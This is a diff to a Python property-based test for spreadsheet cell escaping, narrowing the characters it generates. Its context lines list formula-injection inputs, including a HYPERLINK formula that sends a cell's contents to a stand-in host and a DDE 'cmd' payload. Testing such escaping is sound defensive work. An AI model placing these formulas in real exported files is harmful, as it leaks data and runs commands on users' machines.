@@ -30,7 +30,10 @@ from bsc_widgets.render.xlsx import text_for_cell, text_from_cell
 DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", "=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"click\")",
              "=cmd|\" /C calc\"!A0", "=2*21", "_x000D_", "-1+2"]
 TEXT = st.tuples(st.sampled_from(["", *DANGEROUS]),
-                 st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20),
+                 # what the store accepts (bsc_widgets.model.text): no control or broken characters but tab and
+                 # line breaks
+                 st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
+                         | st.sampled_from(["\t", "\r", "\n"]), max_size=20),
                  st.sampled_from(["", "\r\n", "_x0041_", "'"])).map("".join)
 
 
